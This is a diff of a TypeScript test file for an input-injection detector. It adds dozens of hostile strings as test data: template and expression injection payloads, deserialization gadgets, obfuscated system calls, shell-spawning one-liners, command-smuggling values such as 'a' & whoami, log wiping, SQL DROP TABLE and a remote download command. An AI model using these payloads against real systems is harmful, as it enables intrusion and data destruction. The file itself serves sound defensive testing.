@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { harmlessChecks, harmlessCommands } from '../../test/fakes/harmless-commands.ts';
+import { harmlessGrammars } from '../../test/fakes/harmless-grammars.ts';
 import { harmlessValues } from '../../test/fakes/harmless-values.ts';
 import { findInValue } from './find-in-value.ts';
 import { judgeScript } from './shell/judge-script.ts';
@@ -8,7 +9,7 @@ const rules = (value: string, strictness: 1 | 2 = 1): readonly string[] =>
   findInValue(value, strictness).marks.map(({ rule }) => rule.slice('input/'.length));
 
 describe('what is harmless', () => {
-  it.each(harmlessValues)('%s', (value) => {
+  it.each([...harmlessValues, ...harmlessGrammars])('%s', (value) => {
     expect(findInValue(value, 1).marks).toEqual([]);
   });
   it.each(harmlessCommands.filter((command) => !/^(?:\/bin\/|ba)?sh -c|^tail|^sleep/.test(command)))('%s', (value) => {
@@ -109,6 +110,75 @@ describe('code in a value', () => {
     ['$_GET[0]($_GET[1])', 'code'],
     ['system("id")', 'code'],
     ['O:8:"stdClass":1:{s:1:"a";s:1:"b";}', 'code'],
+    ['a:1:{i:0;O:8:"stdClass":0:{}}', 'code'],
+    ['"\\x73\\x79\\x73\\x74\\x65\\x6d"("id");', 'code'],
+    ['{{["id"]|filter("system")}}', 'code'],
+    ['{{_self.env.getFilter("id")}}', 'code'],
+    ['"id".execute().text', 'code'],
+    ['--- !ruby/object:Gem::Requirement', 'code'],
+    ['osascript -e \'do shell script "id"\'', 'code'],
+    ['ruby -e \'exec "/bin/sh"\'', 'code'],
+    ['deno eval \'Deno.run({cmd:["sh"]})\'', 'code'],
+    ["$c='i'+'ex';&$c 'whoami'", 'code'],
+    ['${phpinfo()}', 'code'],
+    ['elixir -e \'System.cmd("id",[])\'', 'code'],
+    ['erl -noshell -eval \'os:cmd("id"), halt().\'', 'code'],
+    ['@System.Diagnostics.Process.Start("cmd.exe","/c id")', 'code'],
+    ['process.env.TOKEN', 'code'],
+    ['process[mainModule', 'code'],
+    ['function() {', 'code'],
+    ['this.constructor.constructor', 'code'],
+    ['module.exports=', 'code'],
+    ['c\\u006fnsole.info(1)', 'code'],
+    ['while(true){}', 'code'],
+    ['{"constructor":{"prototype":{"a":1}}}', 'code'],
+    ['Xcall_user_func()', 'code'],
+    ['Shell_exec=(x)', 'code'],
+    ['file_ExistS (\n)', 'code'],
+    ['(sy.(st).em)(whoami);', 'code'],
+    ['(string)"a"("b")', 'code'],
+    ['"a"."b"()', 'code'],
+    ['[a][0](b)', 'code'],
+    ['zlib://x', 'code'],
+    ['zip://x.zip#a.php', 'code'],
+    ['java.lang.Runtime', 'code'],
+    ['getRuntime().exec', 'code'],
+    ['rO0ABQ==', 'code'],
+    ['org.apache.commons.collections.functors', 'code'],
+    ['class.module.classLoader.x=1', 'code'],
+    ['${pageContext.request.getSession()}', 'code'],
+    ['Kernel.exec', 'code'],
+    ['Dir.entries("/")', 'code'],
+    ['@{system whoami}', 'code'],
+    ['{{dump(app)}}', 'code'],
+    ['@(7*7)', 'code'],
+    ['Start-BitsTransfer http://a.example/a.exe a.exe', 'code'],
+    ['x;$0 -c id', 'shell-injection'],
+    ['x; . /tmp/y', 'shell-injection'],
+    ['alert(1)', 'code'],
+    ['document.cookie', 'code'],
+    ['#{session.getAttribute("a")}', 'code'],
+    ['${applicationScope}', 'code'],
+    ["cos\nsystem\n(S'id'\ntR.", 'code'],
+    ['blog;case x in x) id;; esac', 'shell-injection'],
+    ['blog;docker ps', 'shell-injection'],
+    ['"a" & whoami', 'shell-injection'],
+    ['a" & whoami & "', 'shell-injection'],
+    ['blog;/tmp/x', 'shell-injection'],
+    ['type C:\\boot.ini', 'shell-injection'],
+    ['*{7*7}', 'code'],
+    ['${{7*7}}', 'code'],
+    ['${{ 1 }} ${{ self.__init__() }}', 'code'],
+    ['${class.getResource("").getPath()}', 'code'],
+    ['1; DROP TABLE users; --', 'code'],
+    ['%COMSPEC% /c dir', 'shell-injection'],
+    ['x;(sleep 5)', 'shell-injection'],
+    ['x || sleep 10', 'shell-injection'],
+    ['x; : > /var/log/lastlog', 'shell-injection'],
+    ['x;npm install some-package', 'shell-injection'],
+    ['(php|sh', 'shell-injection'],
+    ['<% system("id") if x %>', 'code'],
+    ['echo whoami|$0', 'shell-injection'],
     ['php://filter/convert.base64-encode/resource=x', 'code'],
     ['import os;os.system("id")', 'code'],
     ['__import__("os").popen("id")', 'code'],
@@ -143,6 +213,7 @@ describe('code in a value', () => {
     ['hex', Buffer.from(payload).toString('hex')],
     ['base64 within JSON', JSON.stringify({ a: { b: Buffer.from(payload).toString('base64') } })],
     ['base64 within a URL', `https://a.example/?x=${encodeURIComponent(Buffer.from(payload).toString('base64'))}`],
+    ['UTF-16 with its mark within base64', Buffer.from(`\ufeff${payload}`, 'utf16le').toString('base64')],
     ['gzip within base64', 'H4sIAAAAAAAC/0tOLFHQTy1J1i9ILC4uT7FWyEwBAJcaAicTAAAA'],
   ])('within %s', (_, value) => {
     expect(rules(value)).toContain('encoded-code');
